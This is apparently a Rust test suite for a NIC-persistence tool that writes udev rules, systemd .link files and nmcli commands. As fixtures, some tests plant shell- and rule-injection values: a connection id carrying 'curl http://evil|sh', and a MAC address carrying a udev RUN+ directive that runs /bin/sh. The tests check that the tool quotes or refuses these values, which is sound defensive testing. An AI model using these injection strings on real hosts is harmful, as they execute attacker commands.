//! Issue 44 items 2, 3, 4 and 6, issue 50 items 1 to 3: NIC persistence
//! that udev really applies (a `.link` file of the host that sorts first
//! and matches the NIC), that matches the device rather than its current
//! MAC, NetworkManager's own property names, XPS that the driver rewrites
//! at open, and values read from the tree that must not reach a rule, a
//! file or a printed command unchecked: on the hand-built ice NIC
//! (support/nic.rs) in a copy of adl0.

use std::path::Path;

use hostknob::peers::udev;
use hostknob::root::Root;

use crate::nic_persist::{audit, hk, knob};
use crate::support::nic::{ICE, MLX5, host_with};
use crate::support::*;

const NETPLAN: &str = "run/systemd/network/10-netplan-data0.link";
const PERM: &str = "b4:96:91:17:00:00";

const QUEUES: (&str, &str) = (
    "queues",
    "persistence: link-file\nkind: nic-channels\ntarget: {driver: ice}\nset: {combined: 8}\n",
);

fn status(root: &Path, m: &Path, id: &str) -> serde_json::Value {
    knob(&audit(root, m), id).clone()
}

/// The capture's state file of `ifname` with `ethtool -P`'s address, as
/// `capture` stores it.
fn with_permanent(root: &Path, ifname: &str, mac: &str) {
    let path = root.join(format!("hostknob-capture/ethtool/{ifname}.yaml"));
    let text = std::fs::read_to_string(&path).unwrap();
    let mut state: hostknob::ethtool::State = serde_yaml::from_str(&text).unwrap();
    state.permanent_address = Some(mac.to_string());
    std::fs::write(&path, hostknob::ethtool::to_text(&state)).unwrap();
}

fn sys_net(root: &Path, ifname: &str, file: &str) -> std::path::PathBuf {
    let link = std::fs::read_link(root.join(format!("sys/class/net/{ifname}"))).unwrap();
    root.join("sys/class/net").join(link).join(file)
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

#[test]
fn a_link_file_of_the_host_that_sorts_first_and_matches_is_refused_and_named_by_audit() {
    let (_t, root) = host_with("adl0", &ICE);
    with_permanent(&root, "ens2f0", PERM);
    let m = knobs(&[QUEUES]);
    // netplan's file for this NIC (match: macaddress, set-name), sorting first.
    let netplan =
        format!("[Match]\nPermanentMACAddress={PERM}\n\n[Link]\nName=ens2f0\nWakeOnLan=off\n");
    write(&root, NETPLAN, &netplan);
    let pristine = tree(&root);
    let out = hk(&root, m.path(), &["persist", "queues", "--install"]);
    assert_eq!(out.status.code(), Some(1), "{}", err(&out));
    assert!(
        err(&out).contains("shadowed by /run/systemd/network/10-netplan-data0.link"),
        "{}",
        err(&out)
    );
    assert_tree(&pristine, &root, "after a refused persist");
    // Installed before netplan's file came: audit names the file that wins.
    std::fs::remove_file(root.join(NETPLAN)).unwrap();
    ok(&hk(&root, m.path(), &["apply", "--all"]));
    ok(&hk(&root, m.path(), &["persist", "queues", "--install"]));
    assert_eq!(status(&root, m.path(), "queues")["status"], "ok");
    write(&root, NETPLAN, &netplan);
    let k = status(&root, m.path(), "queues");
    assert_ne!(k["status"], "ok", "{k:#}");
    assert!(
        k["detail"]
            .to_string()
            .contains("shadowed by /run/systemd/network/10-netplan-data0.link"),
        "{k:#}"
    );
    // A file for another device, or one masked in /etc, shadows nothing.
    write(
        &root,
        NETPLAN,
        "[Match]\nPermanentMACAddress=b4:96:91:17:00:01\n\n[Link]\nName=x\n",
    );
    assert_eq!(status(&root, m.path(), "queues")["status"], "ok");
    write(&root, NETPLAN, &netplan);
    write(&root, "etc/systemd/network/10-netplan-data0.link", "");
    assert_eq!(status(&root, m.path(), "queues")["status"], "ok");
}

#[test]
fn the_file_keeps_the_naming_policy_of_the_file_it_replaces() {
    let (_t, root) = host_with("adl0", &ICE);
    with_permanent(&root, "ens2f0", PERM);
    write(
        &root,
        "usr/lib/systemd/network/99-default.link",
        "[Match]\nOriginalName=*\n\n[Link]\nNamePolicy=keep kernel database onboard slot path\nMACAddressPolicy=none\n",
    );
    write(
        &root,
        "usr/lib/systemd/network/60-other.link",
        "[Match]\nDriver=mlx5_core\n\n[Link]\nNamePolicy=path\n",
    );
    let m = knobs(&[QUEUES]);
    let printed = ok(&hk(&root, m.path(), &["persist", "queues"]));
    assert!(
        printed.contains(
            "# The naming policy of /usr/lib/systemd/network/99-default.link, which this file \
             shadows for ens2f0.\nNamePolicy=keep kernel database onboard slot path\n\
             MACAddressPolicy=none\n"
        ),
        "{printed}"
    );
}

#[test]
fn the_link_file_and_the_udev_rule_match_the_device_not_its_current_mac() {
    let (_t, root) = host_with("adl0", &ICE);
    with_permanent(&root, "ens2f0", PERM);
    // A bond's second slave: the bond's MAC, not the NIC's own.
    std::fs::write(sys_net(&root, "ens2f0", "address"), "02:11:22:33:44:55\n").unwrap();
    // A VLAN on it, with the same MAC, as the kernel lays one out.
    let vlan = root.join("sys/devices/virtual/net/ens2f0.100");
    std::fs::create_dir_all(&vlan).unwrap();
    for (f, v) in [
        ("address", "02:11:22:33:44:55"),
        ("type", "1"),
        ("uevent", "DEVTYPE=vlan\nINTERFACE=ens2f0.100\nIFINDEX=9"),
    ] {
        std::fs::write(vlan.join(f), format!("{v}\n")).unwrap();
    }
    std::os::unix::fs::symlink(
        "../../devices/virtual/net/ens2f0.100",
        root.join("sys/class/net/ens2f0.100"),
    )
    .unwrap();
    let m = knobs(&[
        QUEUES,
        (
            "steer",
            "persistence: udev-reapply\nkind: rps\ntarget: {interfaces: ens2f0, queues: 0-3}\nset: {cpus: 2-3}\n",
        ),
    ]);
    let printed = ok(&hk(&root, m.path(), &["persist", "queues"]));
    assert!(
        printed.contains(&format!(
            "[Match]\nPermanentMACAddress={PERM}\nType=ether\n\n"
        )),
        "{printed}"
    );
    assert!(!printed.contains("MACAddress=02:11"), "{printed}");
    ok(&hk(&root, m.path(), &["persist", "queues", "--install"]));
    // udev's own matching, as hostknob models it, applies it to the NIC
    // and not to the VLAN over it.
    let r = Root::open(&root).unwrap();
    let files = udev::link_files(&r);
    let facts = udev::Facts::read(&r);
    let nic = udev::Device::read(&r, "ens2f0").unwrap();
    let child = udev::Device::read(&r, "ens2f0.100").unwrap();
    let applied = udev::applying(&files, &nic, &facts, None).map(|f| f.path.clone());
    assert_eq!(
        applied.as_deref(),
        Some("/etc/systemd/network/50-hostknob-ens2f0.link")
    );
    assert!(udev::applying(&files, &child, &facts, None).is_none());
    let said = err(&hk(&root, m.path(), &["persist", "queues"]));
    assert!(
        said.contains("permanent address b4:96:91:17:00:00 (ethtool -P)"),
        "{said}"
    );
    // The rule names the PCI function, which the VLAN and the bond lack.
    let rule = ok(&hk(&root, m.path(), &["persist", "steer"]));
    assert!(
        rule.contains("ACTION==\"add\", SUBSYSTEM==\"net\", KERNELS==\"0000:17:00.0\", RUN+="),
        "{rule}"
    );
    assert!(!rule.contains("ATTR{address}"), "{rule}");
    // Without a permanent address (an older capture), the PCI path.
    let (_t2, root2) = host_with("spr1", &MLX5);
    let m2 = knobs(&[(
        "queues",
        "persistence: link-file\nkind: nic-channels\ntarget: {driver: mlx5_core}\nset: {combined: 8}\n",
    )]);
    let printed = ok(&hk(&root2, m2.path(), &["persist", "queues"]));
    assert!(
        printed.contains("[Match]\nPath=pci-0000:3b:00.0\nType=ether\n\n"),
        "{printed}"
    );
}

#[test]
fn networkmanager_gets_its_own_names_one_feature_each() {
    let (_t, root) = host_with("adl0", &ICE);
    let state_path = root.join("hostknob-capture/ethtool/ens2f0.yaml");
    let mut state: hostknob::ethtool::State =
        serde_yaml::from_str(&std::fs::read_to_string(&state_path).unwrap()).unwrap();
    let features = state.features.as_mut().unwrap();
    features.insert("rx-vlan-hw-parse".into(), "on".into());
    features.insert("tx-tcp-ecn-segmentation".into(), "on".into());
    std::fs::write(&state_path, hostknob::ethtool::to_text(&state)).unwrap();
    write(
        &root,
        "etc/NetworkManager/system-connections/uplink.nmconnection",
        "[connection]\nid=up'; curl http://evil|sh; echo '\ntype=ethernet\ninterface-name=ens2f0\n",
    );
    let m = knobs(&[(
        "offloads",
        "persistence: link-file\nkind: nic-feature\ntarget: {interfaces: ens2f0}\n\
         set: {tx-tcp-segmentation: off, rx-vlan-hw-parse: off, rx-gro: off}\n",
    )]);
    let said = err(&hk(&root, m.path(), &["persist", "offloads"]));
    let line = said
        .lines()
        .find(|l| l.contains("nmcli connection modify"))
        .unwrap_or_else(|| panic!("{said}"));
    let cmd = line.trim();
    assert!(
        cmd.ends_with(
            "nmcli connection modify 'up'\\''; curl http://evil|sh; echo '\\''' \
             ethtool.feature-gro off ethtool.feature-rxvlan off \
             ethtool.feature-tx-tcp-segmentation off"
        ),
        "{cmd}"
    );
    assert!(!cmd.contains("feature-tso"), "{cmd}");
    assert!(!cmd.contains("feature-rx-vlan-hw-parse"), "{cmd}");
    // Pasted into a shell, the id is one word: nmcli's fourth argument.
    let start = cmd.find("nmcli").unwrap();
    let out = std::process::Command::new("sh")
        .args(["-c", &format!("printf '%s\\n' {}", &cmd[start..])])
        .output()
        .unwrap();
    let words: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(words[3], "up'; curl http://evil|sh; echo '", "{words:?}");
    // Features NetworkManager 1.14 already had: no release named.
    assert!(!said.contains("needs NetworkManager"), "{said}");
}

/// channels-* came with NetworkManager 1.46: an older nmcli refuses the
/// printed command, so the note says which release it needs.
#[test]
fn the_nmcli_command_names_the_networkmanager_release_it_needs() {
    let (_t, root) = host_with("adl0", &ICE);
    write(
        &root,
        "etc/NetworkManager/system-connections/uplink.nmconnection",
        "[connection]\nid=uplink\ntype=ethernet\ninterface-name=ens2f0\n",
    );
    let m = knobs(&[(
        "queues",
        "persistence: link-file\nkind: nic-channels\ntarget: {interfaces: ens2f0}\nset: {combined: 8}\n",
    )]);
    let said = err(&hk(&root, m.path(), &["persist", "queues"]));
    assert!(said.contains("ethtool.channels-combined 8"), "{said}");
    assert!(
        said.contains("needs NetworkManager 1.46 or later"),
        "{said}"
    );
}

#[test]
fn xps_on_drivers_that_set_it_at_open_is_applied_after_the_network_is_up() {
    let (_t, root) = host_with("adl0", &ICE);
    let m = knobs(&[(
        "send",
        "persistence: udev-reapply\nkind: xps\ntarget: {interfaces: ens2f0, queues: 0-3}\nset: {cpus: 2-3}\n",
    )]);
    let out = hk(&root, m.path(), &["persist", "send"]);
    let rule = ok(&out);
    assert!(
        rule.contains(&format!(
            "--property=After=network-online.target --property=Wants=network-online.target \
             {} apply --wait",
            std::path::Path::new(bin())
                .canonicalize()
                .unwrap()
                .display()
        )),
        "{rule}"
    );
    assert!(err(&out).contains("ice_cfg_xps_tx_ring"), "{}", err(&out));
    ok(&hk(&root, m.path(), &["apply", "--all"]));
    ok(&hk(&root, m.path(), &["persist", "send", "--install"]));
    std::fs::write(sys_net(&root, "ens2f0", "flags"), "0x1003\n").unwrap();
    assert_eq!(status(&root, m.path(), "send")["status"], "ok");
    // A rule applying at the add event only: the driver's map wins at boot.
    let path = root.join("etc/udev/rules.d/90-hostknob-send.rules");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(
        &path,
        text.replace(
            "--property=After=network-online.target --property=Wants=network-online.target ",
            "",
        ),
    )
    .unwrap();
    let k = status(&root, m.path(), "send");
    assert_ne!(k["status"], "ok", "{k:#}");
    assert!(
        k["detail"].to_string().contains("ice_cfg_xps_tx_ring"),
        "{k:#}"
    );
    std::fs::write(&path, text).unwrap();
    // Down: the values in effect now are the driver's to replace at open.
    std::fs::write(sys_net(&root, "ens2f0", "flags"), "0x1002\n").unwrap();
    let k = status(&root, m.path(), "send");
    assert_ne!(k["status"], "ok", "{k:#}");
    assert!(k["detail"].to_string().contains("ens2f0 is down"), "{k:#}");
}

#[test]
fn a_hostile_address_never_reaches_a_rule_or_a_link_file() {
    let (_t, root) = host_with("adl0", &ICE);
    let m = knobs(&[
        QUEUES,
        (
            "steer",
            "persistence: udev-reapply\nkind: rps\ntarget: {interfaces: ens2f0, queues: 0-3}\nset: {cpus: 2-3}\n",
        ),
    ]);
    for bad in [
        "b4:96:91:17:00:00\", RUN+=\"/bin/sh -c 'id >/tmp/pwn'\", ATTR{x}==\"",
        "b4:96:91:17:00:00\n[Link]\nName=evil",
    ] {
        std::fs::write(sys_net(&root, "ens2f0", "address"), bad).unwrap();
        let pristine = tree(&root);
        for id in ["queues", "steer"] {
            let out = hk(&root, m.path(), &["persist", id, "--install"]);
            assert_eq!(out.status.code(), Some(1), "{id}: {}", err(&out));
            assert!(
                err(&out).contains("/sys/class/net/ens2f0/address: ")
                    && err(&out).contains("is not a hardware address"),
                "{id}: {}",
                err(&out)
            );
            assert_tree(&pristine, &root, "after a refused persist");
        }
    }
    // The same from the capture's permanent address.
    std::fs::write(sys_net(&root, "ens2f0", "address"), "b4:96:91:17:00:00\n").unwrap();
    with_permanent(&root, "ens2f0", "b4:96:91:17:00:00\n[Link]\nName=evil");
    let out = hk(&root, m.path(), &["persist", "queues"]);
    assert_eq!(out.status.code(), Some(1), "{}", err(&out));
    assert!(
        err(&out).contains("hostknob-capture/ethtool/ens2f0.yaml: "),
        "{}",
        err(&out)
    );
}
